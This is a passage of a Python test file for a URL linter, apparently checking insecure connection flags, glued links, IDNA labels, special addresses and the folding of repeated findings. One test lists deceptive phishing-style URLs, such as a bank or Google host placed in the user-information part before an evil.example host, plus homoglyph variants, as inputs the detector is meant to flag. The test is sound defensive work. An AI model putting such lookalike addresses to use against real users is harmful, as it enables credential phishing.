    ("rediss://h/1?ssl_cert_reqs=none", "open-connection", True),
    ("mongodb://h/a?tls=true", "open-connection", False),
    ("https://h/“a”", "punctuation-at-end", False),
    ("https://h/«a»", "punctuation-at-end", False),
    ("https://h/a”", "punctuation-at-end", True),
    ("https://h/a».", "punctuation-at-end", True),
    ("https://h/?sslmode=disable", "open-connection", False),
    ("mailto:a@b.example?body=x;ssl=false", "open-connection", False),
    ("view-source:https://h/?tls=false", "open-connection", False),
    ("app://open?encrypt=false", "open-connection", False),
    ("postgresql+psycopg://h/a?sslmode=disable", "open-connection", True),
    ("mysql://h/a?ssl-mode=DISABLED", "open-connection", True),
    ("example.com:12:30", "host-and-port-only", False),
    ("https://a.example/?q=1https://b.example/", "glued-links", True),
    ("https://a.example/?q=https://b.example/", "glued-links", False),
    ("https://a.example/go%3Dhttps://b.example/", "glued-links", False),
    ("https://a.example/?u=https://b.example/xhttps://c.example/", "glued-links", True),
    *((f"https://a.example/x?q=1{sign}https://b.example/", "glued-links", True) for sign in ",;|"),
    ("https://a.example,http://b.example", "glued-links", True),
    ("https://h/resize;w=3;https://b.example/a.png", "glued-links", False),
    ("https://h/w=1,h=2/https://b.example/a.png", "glued-links", False),
    ("https://h/?u=https://a.example/,https://b.example/", "glued-links", False),
    ("https://a.example/xhttps://a.example/x", "glued-links", False),  # `scheme-twice` says it
    ("ghcr.io/a/b:1.2", "host-without-scheme", False),
    ("http://h/a\\_b\\c", "shell-escaped", False),  # backslashes of Windows
    ("/a\\_b\\c", "shell-escaped", False),
    ("http://h\\_a", "shell-escaped", False),
    ("http://h/a\\..\\..", "shell-escaped", False),
    ("https://doi.org/10.1000/1#b", "hash-in-doi", False),
    ("//h.example/WWW.h.example", "host-in-path", True),
    ("https://h.example/a/h.example/b", "host-in-path", False),  # as those who tell of sites write it
    ("https://h.example/h.example.html", "host-in-path", False),
    ("http://localhost/localhost/", "host-in-path", False),
    ("ssh://git.example/git.example/a", "host-in-path", False),
    ("https://h/10.1002/a.CO;2-#", "hash-in-doi", False),
    ("doi:10.1002/a.CO;2-#", "empty-fragment", False),
    ("http://h/a\u2013b\u2010c", "other-hyphen", False),
    ("sms:+1510;ext=5", "sms-semicolon", False),
    ("acct:a%40b.example@h.example", "acct-malformed", False),
    ("sip:a@2001:db8:5060", "sip-bare-address", False),
    ("http://[fe80::1%eth0]/", "malformed-triplet", False),
    ("http://[fe80::1%eth0]/%", "malformed-triplet", True),
]


@rows(("text", "code", "fires"), SAID)
def test_what_is_said(text, code, fires):
    assert (code in codes(text)) is fires


MESSAGES = [
    ("http://xn--a/", "a-label-not-valid", "decodes to U+0080"),
    ("http://a.xn--a-ecp.ru/", "a-label-not-valid", "decodes to 'a\u2488', and U+2488 is not allowed"),
    ("http://xn--abc.de/", "a-label-not-valid", "decodes to U+0082 U+0081 U+0080"),
    ("http://xn--abc-.de/", "a-label-not-valid", "US-ASCII alone"),
    ("http://xn--0.de/", "a-label-not-valid", "no punycode"),
    ("http://xn--u-ccb.de/", "a-label-not-valid", "NFC"),
    ("http://xn--1ug.de/", "a-label-not-valid", "joiner"),
    ("http://h/a%FF%FEb", "octets-not-utf-8", "the octets FF FE at 11 are"),
    ("http://h/caf%e9", "octets-not-utf-8", "the octet E9 at 13 is"),
    ("http://[2001:db8::1]/", "special-address", "for examples"),
    ("http://192.0.2.1/", "special-address", "for examples"),
    ("http://10.0.0.1/", "special-address", "private"),
    ("http://224.0.0.0/", "special-address", "multicast"),
    ("http://239.255.255.255/", "special-address", "multicast"),
    ("http://240.0.0.1/", "special-address", "set aside"),
    ("http://[ff02::1]/", "special-address", "multicast"),
    ("http://4294967296/", "whatwg-ipv4-out-of-range-part", "too large for its place"),
    ("http://2130706433/", "whatwg-ipv4-out-of-range-part", "stands for more than one octet"),
    ("https:h/", "whatwg-special-scheme-missing-following-solidus", "neither fewer nor more"),
    ("mailto:a@b.example?from=c@d.example", "mailto-unsafe-header", "may leave out"),
    ("urn:uuid:F81D4FAE-7DEC-11D0-A765-00A0C91E6BF6", "uuid-not-lowercase", "may be of either case"),
]


@pytest.mark.parametrize(("text", "code", "words"), MESSAGES)
def test_a_message_says(text, code, words):
    assert words in next(found.message for found in findings(text) if found.code == code)


def test_every_bad_port_of_the_fetch_standard_is_known():
    refused = [
        port
        for port in range(11_000)
        if any("browsers refuse" in found.message for found in findings(f"ws://h:{port}/"))
    ]
    assert len(refused) == 83
    assert {0, 1, 77, 87, 601, 4190, 6679, 10080} < set(refused)


def test_user_information_is_not_said_to_reach_a_referer():
    """RFC 9110 10.1.3 keeps it out of there."""
    assert not [found for found in findings("http://joe:pw@h/") if "refer" in found.message.lower()]


FIXED = [
    # No domain holds these characters, encoded or not (URL standard 3.1); a space inside a name is left out.
    ("https://exa mple.com/", "space-not-allowed", "https://example.com/"),
    ("https://exa|mple.com/", "excluded-character", None),
    ("//exa mple.com/", "space-not-allowed", "//example.com/"),
    ("https://100%.example/", "malformed-triplet", None),
    ("https://a[b/", "bracket-outside-host", None),
    ('https://a"b/', "excluded-character", "https://a%22b/"),
    ("foo://a b/", "space-not-allowed", "foo://a%20b/"),
    ("/ a", "space-not-allowed", "/%20a"),
    ("a b?c", "space-not-allowed", "a%20b?c"),
    ("http://h/a: b", "space-not-allowed", "http://h/a:%20b"),
    ("https:// example.com/", "space-not-allowed", "https://example.com/"),
    ("https://example.com :80/", "space-not-allowed", "https://example.com:80/"),
    ("https:// /a", "space-not-allowed", None),
    ("http://h/a%2%30b", "needless-triplet", None),  # %20 would be another character
    ("http://h/a%%30b", "needless-triplet", None),
    ("http://h/a%30b", "needless-triplet", "http://h/a0b"),
    ("http://h/a%zz%30", "needless-triplet", "http://h/a%zz0"),
    ("foo:a\\b", "backslash", "foo:a%5Cb"),
    ("http://h\\a", "backslash", "http://h/a"),
    ("http://h/?a\\b", "backslash", "http://h/?a%5Cb"),
    ("http://h/a\\?b", "backslash", None),
    ("http://h/a ", "space-not-allowed", None),
    ("tel://'", "unexpected-authority", None),
    ("http://h/%2\n61", "malformed-triplet", None),  # a browser takes the line break out
    ("data: ;charset=x,", "space-not-allowed", "data:;charset=x,"),
    ("data:,a b", "space-not-allowed", "data:,a%20b"),
    ("ftp://h/a?b?c", "ftp-query", None),
    ("ws://h/:!)", "punctuation-at-end", "ws://h/"),
    ("a/../b:c", "dot-segments", None),
    ("http://user@/path", "user-information", None),  # a browser would find the host in the path
    ("http://::", "empty-port", None),
    ("tel:+0123456", "tel-no-country", None),
    ("tel:+004930123456", "tel-no-country", "tel:+4930123456"),
    ("mailto:a%40b%40example.com", "mailto-no-at", None),
    ("http://[1]/", "ipv6-not-an-address", None),
    ("http://[1.2.3]/", "ipv6-not-an-address", None),
    ("http://[0x7f]/", "ipv6-not-an-address", None),
    ("http://[h.Example]/", "ipv6-not-an-address", "http://h.Example/"),
]


@pytest.mark.parametrize(("text", "code", "mended"), FIXED)
def test_a_fix_that_would_break_something_is_not_offered(text, code, mended):
    fix = next(found.fix for found in findings(text) if found.code == code)
    assert mended == (fix and text[: fix.span.start] + fix.text + text[fix.span.end :])


def test_a_login_is_no_warning():
    """Where one logs in, the user is a part of the address."""
    for text in (
        "ssh://git@h/x",
        "docker+ssh://joe@h",
        "xmpp://joe@h.example/ann@i.example",
        "mysql+pymysql://root@h/a",
        "smtp://joe@h:587",
        "webcal://joe@h/a.ics",
    ):
        assert [found.severity for found in findings(text) if found.code == "user-information"] == ["note"]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("http://h/?to=joe%40example.com", True),
        ("?to=joe@example.com", True),
        ("http://h/login#joe%40example.com", True),
        ("http://h/login#for%20joe@example.com", False),
        ("http://h/?q=ask%20joe@example.com", False),
        ("http://h/?joe@example.com", False),
        ("mailto:joe@example.com?cc=ann@example.com", False),
    ],
)
def test_a_mail_address_is_told_where_it_is_a_whole_value_of_a_page(text, found):
    assert ("mail-address-in-query" in codes(text)) is found


USER_NAMES = [
    ("https://john.doe@www.example.com/", False),
    ("https://john.doe:secret@example.com/", False),
    ("ftp://joe%40example.com@ftp.example.com/", False),
    ("ftp://a.b.c@h/", False),
    ("https://accounts.google.com@evil.example/", True),
    ("https://www.bank.example@evil.example/", True),
    ("https://bank.example:443@evil.example/", True),
    ("https://bank.example%2Flogin@evil.example/", True),
    ("https://github.com\u2215torvalds@evil.zip/", True),
    ("https://1.1.1.1@evil.example/", True),
    ("https://ex\u0430mple.com@evil.example/", True),
    ("https://ex%D0%B0mple.com:443@evil.example/", True),
    ("https://\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444@evil.example/", True),
    ("https://j\u00fcrgen.m\u00fcller@h.example/", False),
    ("https://https:%2F%2Fbank.com@evil.example/", True),
]


@pytest.mark.parametrize(("text", "fires"), USER_NAMES)
def test_user_name_that_looks_like_a_host(text, fires):
    assert ("host-in-user-information" in codes(text)) is fires


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("%" * 3_000, "malformed-triplet"),
        ("http://h/" + "%7E" * 1_500, "needless-triplet"),
        ("http://h/" + " " * 5 + " a" * 1_500, "space-not-allowed"),
        ("http://h/?" + "utm_source=x&" * 1_500, "tracking-parameter"),
        ("mailto:a@b.example?" + "b&" * 1_500, "mailto-no-value"),
    ],
)
def test_a_flood_is_folded(text, code):
    found = findings(text)
    most = max(Counter(one.code for one in found).values())
    assert len(found) < 1000
    assert most <= 101
    assert code in {one.code for one in found}
    order = list(Severity)
    assert [(order.index(one.severity), one.span) for one in found] == sorted(
        (order.index(one.severity), one.span) for one in found
    )


def test_a_flood_tells_how_many_more_there_are_and_where():
    found = [one for one in findings("%" * 300) if one.code == "malformed-triplet"]
    assert len(found) == 101
    assert [tuple(one.span) for one in found[:100]] == [(place, place + 1) for place in range(100)]
    assert found[100].message == "200 more places have the same finding"
    assert (tuple(found[100].span), found[100].fix, found[100].severity) == ((100, 300), None, Severity.ERROR)


@pytest.mark.parametrize("count", [99, 100, 101])
def test_a_hundred_and_one_are_all_told(count):
    found = [one for one in findings("%" * count) if one.code == "malformed-triplet"]
    assert [tuple(one.span) for one in found] == [(place, place + 1) for place in range(count)]
